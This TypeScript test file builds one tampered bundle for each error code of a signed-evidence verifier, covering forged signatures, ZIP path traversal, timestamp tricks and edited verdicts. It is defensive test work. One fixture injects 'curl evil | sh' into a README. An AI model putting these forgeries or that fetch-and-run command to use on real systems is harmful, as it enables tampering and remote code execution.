// oxlint-disable typescript/no-unsafe-return, typescript/no-unsafe-call, typescript/no-unsafe-argument, typescript/no-explicit-any -- an attacker changes documents without asking for their types
import { encodeZip, endRecords, mostFiles } from '../../src/bundle/zip-profile.ts';
import { sealedBytes } from '../bundle/sealed.ts';
import { concatBytes } from '../../src/core/bytes.ts';
import { canonicalDocument } from '../../src/core/canonical-json.ts';
import type { VerificationReportCode } from '../../src/model/generated/documents.ts';
import type { Trust } from '../../src/trust/trust-policy.ts';
import { promotedRun } from '../bundle/promoted-run.ts';
import { Forgery } from './forgery.ts';
import { insiderBundle } from './insider.ts';
import { epochOf, logTrust, logWith, moment, proofPath, withProof, witnesses } from './logged.ts';
import { after, putStamp, stampOn, timeTrust, withStamp } from './stamped.ts';
import { keyOf, signer, signerNumber, stranger, trust, trustIn } from './trust.ts';

export const promoted = await promotedRun();
export const good: Uint8Array = await sealedBytes(promoted, signer);
/** Held for review by the gate, approved by a person. */
export const approved = await promotedRun({
  answer: 'The Board will perhaps meet again in spring [doc:t:brief#p1].\n',
  gate: { unsupported: 'review' },
  approver: 'ines',
});

export interface Attack {
  readonly bytes: Uint8Array;
  /** Default: the policy that believes the signer of the good bundle. */
  readonly trust?: Trust;
  /** All codes that verify must find; default: the one under which the attack stands. */
  readonly found?: readonly VerificationReportCode[];
}

export const forge = (): Forgery => new Forgery(good);
const run = 'data/run.json';
const answer = 'data/outputs/answer.md';

function patched(at: number, ...values: readonly number[]): Uint8Array {
  const bytes = Uint8Array.from(good);
  bytes.set(values, at < 0 ? bytes.length + at : at);
  return bytes;
}

const timed = trustIn([keyOf(signer, 'ines')], timeTrust());

/** A Zstandard frame of 128 KiB zeros so often. */
function zeros(times: number): Uint8Array {
  const blocks = Array.from({ length: times }, (_, index) => Uint8Array.of(index + 1 === times ? 3 : 2, 0, 0x10, 0));
  return concatBytes([Uint8Array.of(0x28, 0xb5, 0x2f, 0xfd, 0, 0x38), ...blocks]);
}

/** One attack for each code that a report can carry: a new code does not compile without one. */
export const attacks: Readonly<Record<VerificationReportCode, () => Promise<Attack>>> = {
  // A wrapper is a matter of files; bytes in memory that are one are no ZIP.
  'wrapper-malformed': async () => ({ bytes: concatBytes([zeros(1), Uint8Array.of(0)]), found: ['zip-malformed'] }),
  'wrapper-too-large': async () => ({ bytes: zeros(100), found: ['zip-malformed'] }),
  'zip-malformed': async () => ({ bytes: concatBytes([good, Uint8Array.of(0)]) }),
  // Bit 3 of the flags: "sizes follow the data", which some readers believe.
  'zip-not-canonical': async () => ({ bytes: patched(6, 8) }),
  'zip-name': async () => ({
    bytes: encodeZip([...forge().named(), { name: `${forge().top}/data/../../up`, bytes: new Uint8Array() }]),
    found: ['zip-name', 'zip-not-canonical'],
  }),
  'zip-too-large': async () => ({ bytes: concatBytes([good.subarray(0, -22), endRecords(mostFiles + 1, 46, good.length - 22 - 46)]) }),
  'file-missing': async () => ({ bytes: forge().remove(answer).zip() }),
  'file-unlisted': async () => ({ bytes: forge().put('data/extra.txt', 'more').zip() }),
  'manifest-malformed': async () => ({
    bytes: (
      await forge()
        .edit('manifest-sha256.txt', (text) => text.split('\n').slice(0, -1).reverse().join('\n') + '\n')
        .tagManifest()
        .signed(signer)
    ).zip(),
  }),
  'manifest-mismatch': async () => ({
    bytes: forge()
      .edit(answer, (text) => text.replace('0.25', '0.75'))
      .zip(),
  }),
  'tagmanifest-mismatch': async () => {
    const forgery = forge().edit(answer, (text) => text.replace('0.25', '0.75'));
    const tagManifest = forgery.bytes('tagmanifest-sha256.txt');
    return { bytes: forgery.manifests().put('tagmanifest-sha256.txt', tagManifest).zip() };
  },
  'subject-mismatch': async () => ({
    bytes: forge()
      .edit(answer, (text) => text.replace('0.25', '0.75'))
      .manifests()
      .zip(),
  }),
  'bag-malformed': async () => ({
    bytes: (
      await forge()
        .edit('bag-info.txt', (text) => `${text}Contact-Email: call@example.org\n`)
        .tagManifest()
        .signed(signer)
    ).zip(),
  }),
  'signature-missing': async () => ({ bytes: forge().unsigned().zip() }),
  'envelope-malformed': async () => {
    const forgery = forge();
    for (const path of forgery.envelopes()) forgery.json(path, (envelope) => envelope.signatures.push(envelope.signatures[0]));
    return { bytes: forgery.zip() };
  },
  'statement-malformed': async () => ({
    bytes: (await forge().signed(signer, (statement) => statement.subject.push({ ...statement.subject[0], name: 'other.txt' }))).zip(),
  }),
  'signature-invalid': async () => {
    const forgery = forge();
    const other = await signer.sign(new Uint8Array(3));
    const sig = Buffer.from(other).toString('base64');
    for (const path of forgery.envelopes()) forgery.json(path, (envelope) => (envelope.signatures[0].sig = sig)).put(path.replace('.dsse.json', '.sig'), other);
    for (const ending of ['minisig', 'sigstore.json']) forgery.remove(`signatures/${signer.keyId}.${ending}`);
    return { bytes: forgery.zip() };
  },
  'signer-unknown': async () => ({ bytes: (await forge().signed(stranger)).zip() }),
  'key-outside-window': async () => ({ bytes: good, trust: trustIn([keyOf(signer, 'ines', { valid_to: '2025-11-24T15:00:00.000Z' })]) }),
  'key-revoked': async () => ({
    bytes: good,
    trust: trustIn([keyOf(signer, 'ines', { revoked: { reason: 'lost', invalid_from: '2029-01-01T00:00:00.000Z', honour_earlier: true } })]),
  }),
  'threshold-unmet': async () => ({
    bytes: good,
    trust: trustIn([keyOf(signer, 'ines'), keyOf(signerNumber(8), 'omar')], { thresholds: [{ role: 'promoter', owners: 2 }] }),
  }),
  'signature-copy-differs': async () => ({ bytes: forge().put(`signatures/${signer.keyId}.sig`, new Uint8Array(64)).zip() }),
  // The policy asks for a trusted time, and nobody stamped the signature.
  'not-time-anchored': async () => ({ bytes: good, trust: trustIn([keyOf(signer, 'ines')], timeTrust(undefined, true)) }),
  // The same value in another encoding: a length with a needless octet.
  'timestamp-malformed': async () => {
    const stamp = stampOn(forge());
    return {
      bytes: putStamp(forge(), concatBytes([stamp.slice(0, 1), Uint8Array.of(0x83, 0), stamp.slice(2)])).zip(),
      trust: timed,
    };
  },
  // A time stamp of somebody else's signature.
  'timestamp-invalid': async () => ({ bytes: withStamp(forge(), { over: new Uint8Array(64) }).zip(), trust: timed }),
  // Signed before it was promoted: somebody's clock is wrong, or somebody lies.
  'time-contradiction': async () => ({ bytes: withStamp(forge(), { at: after(forge(), -61) }).zip(), trust: timed }),
  'withheld-malformed': async () => ({ bytes: forge().put('signatures/disclosure.json', '{}').zip() }),
  'withheld-not-allowed': async () => ({
    bytes: forge()
      .remove('data/verdict.json')
      .put('signatures/disclosure.json', canonicalDocument({ format: 'evidence-gate/disclosure/1', withheld: [{ path: 'data/verdict.json', reason: 'x' }] }))
      .zip(),
  }),
  // Rules that nobody has: a verdict that is not run again can say anything.
  'layers-not-rerun': async () => ({
    bytes: await insiderBundle(promoted, signer, ({ verdict }) => {
      verdict.engine.rules_sha256 = `sha256:${'3'.repeat(64)}`;
    }),
    trust: trustIn([keyOf(signer, 'ines')], { rerun: { required: true } }),
  }),
  'verdict-not-promotable': async () => ({
    bytes: await insiderBundle(promoted, signer, ({ verdict }) => {
      verdict.result = 'fail';
      verdict.ok = false;
    }),
    // The step that judged says in the record what it gave.
    found: ['verdict-not-promotable', 'verdict-differs', 'promotion-unsupported'],
  }),
  'verdict-differs': async () => ({ bytes: await insiderBundle(promoted, signer, ({ verdict }) => (verdict.reason = 'all is well')) }),
  'promotion-unsupported': async () => ({ bytes: await insiderBundle(approved, signer, ({ promotion }) => (promotion.decided_by.id = 'mallory')) }),
  'document-malformed': async () => ({
    bytes: (
      await forge()
        .edit(run, (text) => `${text}\n`)
        .resealed(signer)
    ).zip(),
  }),
  'schema-violation': async () => ({
    bytes: (
      await forge()
        .json(run, (document) => (document.more = 1))
        .resealed(signer)
    ).zip(),
  }),
  'record-broken': async () => ({
    bytes: (
      await forge()
        .edit('data/spans.jsonl', (text) => {
          const [a = '', b = '', ...rest] = text.split('\n');
          return [b, a, ...rest].join('\n');
        })
        .resealed(signer)
    ).zip(),
  }),
  'span-open': async () => ({
    bytes: await insiderBundle(promoted, signer, ({ spans }) => Object.assign(spans[1], { status: 'open', end_unix_nano: null })),
  }),
  'span-tree-broken': async () => ({
    bytes: await insiderBundle(promoted, signer, (papers) => {
      papers.spans.splice(1, 1);
      papers.run.record.spans -= 1;
    }),
  }),
  'reference-unresolved': async () => ({ bytes: (await forge().remove('data/input.json').resealed(signer)).zip() }),
  'source-differs': async () => ({ bytes: await insiderBundle(promoted, signer, ({ sources }) => (sources.sources[0].range.byte_start += 1)) }),
  'count-mismatch': async () => ({ bytes: (await forge().signed(signer, (statement) => (statement.predicate.counts.claims += 1))).zip() }),
  'identity-mismatch': async () => ({
    bytes: (
      await forge()
        .json('data/promotion.json', (promotion) => (promotion.run_id = promotion.run_id.replace(/.$/, '0')))
        .resealed(signer)
    ).zip(),
  }),
  'readme-differs': async () => ({
    bytes: (
      await forge()
        .edit('data/README.txt', (text) => text.replace('cd evidence', 'curl evil | sh; cd evidence'))
        .resealed(signer)
    ).zip(),
  }),
  'schema-differs': async () => ({
    bytes: (
      await forge()
        .edit('data/schemas/run.schema.json', (text) => text.replace('A', 'B'))
        .resealed(signer)
    ).zip(),
  }),
  'log-proof-malformed': async () => ({
    bytes: withProof(forge())
      .edit(proofPath(), (text) => text.replace('index 4', 'index 04'))
      .zip(),
    trust: trustIn([keyOf(signer, 'ines')], logTrust([epochOf()])),
  }),
  // An entry of the log, shown for another signature.
  'log-proof-invalid': async () => ({
    bytes: withProof(forge())
      .edit(proofPath(), (text) => text.replace('index 4', 'index 5'))
      .zip(),
    trust: trustIn([keyOf(signer, 'ines')], logTrust([epochOf()])),
  }),
  'log-quorum-unmet': async () => ({
    bytes: withProof(forge(), logWith(forge()).note([[witnesses[0], moment()]])).zip(),
    trust: trustIn([keyOf(signer, 'ines')], logTrust([epochOf()])),
  }),
  'not-logged': async () => ({ bytes: good, trust: trustIn([keyOf(signer, 'ines')], logTrust([epochOf()], true)) }),
};
export { trust };
